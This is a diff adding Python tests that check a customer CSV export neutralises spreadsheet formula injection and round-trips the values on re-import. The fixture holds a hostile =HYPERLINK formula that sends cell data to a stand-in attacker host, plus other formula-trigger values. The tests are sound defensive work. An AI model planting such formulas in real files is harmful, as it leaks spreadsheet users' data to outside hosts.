@@ -147,3 +147,54 @@ async def test_with_a_slack_token_an_owner_slack_does_not_know_is_refused(fake, 
     ok = await earshot(database_url, "customers", "import", str(path), "--team", "T0001", **slack)
     assert ok.exit_code == 0, ok.output
     assert [c.params["user"] for c in fake.calls_to("users.info")] == ["U0NOBODY99", "U0ALICE001"]
+
+
+HOSTILE = """customers:
+  - name: =HYPERLINK("https://evil.example/?x="&A1,"Open")
+    aliases: ["+Acme Plus", "Acme Minus"]
+    tier: "@SUM(1+1)"
+  - name: "-2+3"
+    tier: "=1+2"
+  - name: Plain Co
+    aliases: ["-"]
+"""
+
+
+async def test_csv_export_guards_formula_cells_and_imports_back_unchanged(db, database_url, tmp_path):
+    """OWASP "CSV Injection": no cell of the export starts with = + - @ tab or CR; the import of
+    the export gives back every original value."""
+    import csv
+    import io
+
+    path = tmp_path / "hostile.yaml"
+    path.write_text(HOSTILE)
+    result = await earshot(database_url, "customers", "import", str(path), "--team", "T0001")
+    assert result.exit_code == 0, result.output
+    before = {n: (c.aliases, c.tier) for n, c in (await stored(db)).items()}
+    assert before['=HYPERLINK("https://evil.example/?x="&A1,"Open")'] == (["+Acme Plus", "Acme Minus"], "@SUM(1+1)")
+    out = tmp_path / "out.csv"
+    assert (await earshot(database_url, "customers", "export", str(out))).exit_code == 0
+    cells = [c for row in csv.reader(io.StringIO(out.read_text(), newline="")) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")" in cells
+    assert {"'+Acme Plus;Acme Minus", "'@SUM(1+1)", "'-2+3", "'=1+2", "'-"} <= set(cells)
+    again = await earshot(database_url, "customers", "import", str(out))
+    assert "0 created, 0 updated, 3 unchanged" in again.output, again.output
+    assert {n: (c.aliases, c.tier) for n, c in (await stored(db)).items()} == before
+
+
+def test_guard_and_unguard_round_trip_every_text():
+    from hypothesis import given
+    from hypothesis import strategies as st
+
+    from bot.domain.privacy import csvsafe
+
+    @given(st.text(alphabet=st.sampled_from("'=+-@\t\rab 1"), max_size=6))
+    def check(text: str) -> None:
+        guarded = csvsafe.guard(text)
+        assert csvsafe.unguard(guarded) == text
+        assert guarded[:1] not in csvsafe.TRIGGERS
+
+    check()
+    assert csvsafe.guard("'Acme") == "'Acme" and csvsafe.unguard("'Acme") == "'Acme"  # hand-written stays
+    assert csvsafe.guard(-0.42) == -0.42 and csvsafe.guard(None) is None  # numbers stay numbers
